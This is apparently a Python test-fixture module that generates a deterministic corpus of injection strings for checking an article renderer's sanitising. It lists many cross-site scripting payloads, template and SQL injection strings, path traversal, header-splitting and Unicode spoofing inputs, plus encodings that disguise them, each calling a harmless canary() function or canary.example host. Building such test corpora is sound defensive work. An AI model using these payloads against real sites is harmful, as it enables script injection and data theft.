"""Strings that somebody may hide in an article to run a script, to lead away or to turn the page round.

`strings` are the plain ones of every class; `many` are as many as are wanted: more ways to break out, more deeds, and
every one of them in disguise. Each holds the name of the canary, the function that must never be called.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Sequence
from itertools import product
from urllib.parse import quote

CANARY = "canary"

_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "</style>",
    "]]>",
    '" ',
    "\\",
    "&quot;>",
    "&#34;>",
)
_DEEDS = (
    "<script>canary()</script>", "<script src=//canary.example></script>", "<img src=x onerror=canary()>",
    "<svg onload=canary()>", "<svg><script>canary()</script></svg>", "<iframe srcdoc='<script>canary()</script>'>",
    "<math><mtext><img src=x onerror=canary()>", "<a href=javascript:canary()>canary</a>",
    "<form action=//canary.example><button>canary", "<base href=//canary.example/>",
    "<meta http-equiv=refresh content='0;url=//canary.example'>", "<link rel=stylesheet href=//canary.example>",
    "<style>@import '//canary.example'</style>", "<object data=//canary.example>",
    "<input autofocus onfocus=canary()>", "<details open ontoggle=canary()>",
    "<x onclick=canary() style='position:fixed'>canary</x>", "<plaintext>canary", "<!--canary",
    "<template><script>canary()</script></template>", "<noscript><p title='</noscript><img src=x>'>canary",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="canary()',
    "' onfocus='canary()' autofocus='",
    "` onclick=`canary()",
    '"style="x:canary',
    "\" srcdoc='canary'",
)
_TEMPLATES = (
    "{{ canary }}",
    "{% include 'canary' %}",
    "${canary()}",
    "{{''.__class__.__mro__}} canary",
    "#{canary}",
    "<%= canary %>",
)
_ADDRESSES = (
    "javascript:canary()", "JaVaScRiPt:canary()", "java\tscript:canary()", "\x01javascript:canary()",
    "data:text/html,<script>canary()</script>", "vbscript:canary()", "//canary.example/x", "\\\\canary.example\\x",
    "/\\canary.example", "https:canary.example", "https://user@canary.example/", "http://canary.example\\@x.example/",
    "https://canary.example:99999/", "http://[canary", "file:///canary", "blob:canary", "https://x.example/\u202ecanary",
)  # fmt: skip
_LETTERS = (
    "canary\u202egnp.exe", "\u2066canary\u2069", "canary\u200b\u200c\u200d", "canary ca\u0300\u0301\u0302nary", "canary\x00end",  # noqa: E501
    "canary\x1b[31mred", "ᴄanary canary", "canary\ufeff", "canary \U000e0041\U000e0042", "\u05e9\u05dc canary \u05d5\u05dd",  # noqa: E501
    "canary\r\nset-cookie: a=b", "canary\u2028\u2029", "canary \ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),  # noqa: E501
    "canary" + "a" * 3_000, "=canary()", "+canary", "@canary", "-canary",
)  # fmt: skip
_PATHS = (
    "../../canary",
    "..\\..\\canary",
    "/etc/canary",
    "C:\\canary",
    "canary/.json",
    ".canary",
    "%2e%2e/canary",
    "canary?a=b#c",
)
_QUERIES = (
    'canary" OR "a',
    "canary' OR 1=1 --",
    "canary*",
    "NEAR(canary x)",
    "text:canary",
    "canary AND",
    "^canary",
    "(canary",
)


def strings() -> Iterator[str]:
    """Every string of every class; each holds the canary's name."""
    for start, deed in product(_BREAKS, _DEEDS):
        yield start + deed
    yield from (*_ATTRIBUTES, *_TEMPLATES, *_ADDRESSES, *_LETTERS, *_PATHS, *_QUERIES)


_MORE_BREAKS = (
    "</bdi>", "</mark>", "</option></select>", "</summary></details>", "</svg>", "</a>", "'\">", "`>", "*/", "\n\n",
    "]]>\">", "</noscript>", "</template>", "<!---->", "--!>", "\"\"\"", "');", "\\\");", "{{/if}}", "%>", "<![CDATA[",
    "<?xml?>", "</p>", "\u2028", "\ufeff",
)  # fmt: skip
_MORE_DEEDS = (
    "<script>canary()//", "<SCRIPT SRC=/canary.js></SCRIPT>", "<script type=module>canary()</script>",
    "<script/x>canary()</script>", "<img src=//canary.example/p.gif>", "<img srcset='//canary.example/p 1x'>",
    "<img/src='x'/onerror='canary()'>", "<image href=//canary.example/i onerror=canary()>",
    "<picture><source srcset=//canary.example/s><img></picture>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>", "<svg><set onbegin=canary() attributeName=x>",
    "<svg><use href='data:image/svg+xml,canary#x'>",
    "<svg><a xlink:href='javascript:canary()'><text y=9>canary</text></a>",
    "<svg><foreignObject><body onload=canary()>", "<svg><style>@import'//canary.example';</style>",
    "<iframe src=javascript:canary()>", "<iframe src='data:text/html,<script>parent.canary()</script>'>",
    "<frameset onload=canary()>", "<embed src=javascript:canary()>", "<embed src=//canary.example/e>",
    "<object data='javascript:canary()'>", "<video src=//canary.example/v onerror=canary()>",
    "<audio src=x onerror=canary()>", "<video poster=//canary.example/p>", "<body onload=canary()>",
    "<body onpageshow=canary()>", "<body background=//canary.example>", "<marquee onstart=canary()>",
    "<select autofocus onfocus=canary()>", "<textarea autofocus onfocus=canary()>",
    "<button autofocus onfocus=canary()>", "<p tabindex=1 autofocus onfocus=canary()>",
    "<keygen autofocus onfocus=canary()>", "<form><input type=submit formaction=javascript:canary() value=canary>",
    "<form id=canary></form><button form=canary>canary", "<isindex action=javascript:canary() type=image>",
    "<link rel=prefetch href=//canary.example/f>", "<link rel=dns-prefetch href=//canary.example>",
    "<link rel=preload as=script href=/canary.js>", "<link rel=manifest href=//canary.example/m>",
    "<link rel=icon href=//canary.example/i>", "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    "<meta http-equiv=set-cookie content=canary>", "<meta name=referrer content=unsafe-url><!--canary",
    "<meta charset=utf-7>+ADw-script+AD4-canary()+ADw-/script+AD4-",
    "<style>*{background:url(//canary.example/b)}</style>", "<p style=background:url(//canary.example/p)>canary",
    "<style>@font-face{font-family:x;src:url(//canary.example/f)}*{font-family:x}</style>",
    "<style onload=canary()></style>", "<table background=//canary.example/t><tr><td>canary",
    "<a href='jav&#x09;ascript:canary()'>canary</a>", "<a ping=//canary.example href=#>canary",
    "<a href=//canary.example target=_blank>canary</a>", "<area href=javascript:canary()>",
    "<math href=javascript:canary()>canary</math>", "<dialog open oncancel=canary()>canary",
    "<p popover id=canary ontoggle=canary()>", "<input type=image src=//canary.example/x>",
    "<p id=canary name=canary>", "<a id=keys><a id=keys name=canary>", "<img name=getElementById id=canary>",
    "<canary-x></canary-x>", "<div slot=canary is=canary-x>",
    "<template shadowrootmode=open><script>canary()</script></template>", "<xmp>canary", "<listing>canary",
    "<title>canary</title>", "<textarea>canary", "<select><option>canary", "<col><tr><td>canary",
    "<head><base target=canary>", "javascript:canary()", "'-canary()-'", "\\x3cscript\\x3ecanary()\\x3c/script\\x3e",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", "${alert(canary())}",
    "{{constructor.constructor('canary()')()}}", "{% raw %}canary", "{{ self.__init__.__globals__ }}canary",
    "canary\" OR 1=1; DROP TABLE words; --", "canary'||(SELECT text FROM editions)||'", "text : canary NEAR/2 *",
    "../../../canary.html", "//canary.example/%2f..", "\r\nLocation: //canary.example\r\n\r\n",
    "canary\u202e)(yranac\u202c",
)  # fmt: skip
_ENTITIES = {"<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;"}
_WIDE = {char: chr(ord(char) + 0xFEE0) for char in "<>\"'=/()"}


def _plain(text: str) -> str:
    return text


def _replaced(signs: dict[str, str]) -> Callable[[str], str]:
    return lambda text: "".join(signs.get(char, char) for char in text)


def _loud(text: str) -> str:
    """Every other letter as a capital, but for the canary, whose name is a function's."""
    parts = ("".join(char.upper() if at % 2 else char for at, char in enumerate(part)) for part in text.split("canary"))
    return "canary".join(parts)


_DISGUISES: Sequence[Callable[[str], str]] = (
    _plain,
    _loud,
    _replaced(_ENTITIES),
    _replaced({sign: entity.replace("&", "&amp;") for sign, entity in _ENTITIES.items()}),
    _replaced({sign: f"&#x{ord(sign):x};" for sign in "<>\"'"}),
    _replaced({sign: f"&#{ord(sign):08}" for sign in "<>\"'"}),
    lambda text: quote(text, safe="canary().:"),
    _replaced(_WIDE),
    _replaced({" ": "\t", "=": "\n=\n"}),
    _replaced({" ": "/", "=": " = "}),
    lambda text: text.replace("<", "<\0").replace("script", "scr\0ipt"),
    lambda text: text.replace("script", "scrip\u200bt").replace("on", "o\u00adn"),
    lambda text: f"\u202e{text}\u202c",
    lambda text: f"\U000e0001{text}\U000e007f",
    lambda text: f"<{text}<<script>",
    lambda text: f"The pier {text} is open, {text}, and we are glad of it",
)


def many(number: int) -> list[str]:
    """So many strings, none twice, always the same: `strings`, then what was drawn of every class in every disguise."""
    deeds = (*_DEEDS, *_MORE_DEEDS, *_ATTRIBUTES, *_TEMPLATES, *_ADDRESSES, *_LETTERS, *_PATHS, *_QUERIES)
    starts = (*_BREAKS, *_MORE_BREAKS)
    drawn = random.Random(6).sample(range(len(starts) * len(deeds) * len(_DISGUISES)), 2 * number)
    made = dict.fromkeys(strings())
    for each in drawn:
        if len(made) >= number:
            break
        rest, disguise = divmod(each, len(_DISGUISES))
        start, deed = divmod(rest, len(deeds))
        made[_DISGUISES[disguise](starts[start] + deeds[deed])] = None
    return list(made)[:number]
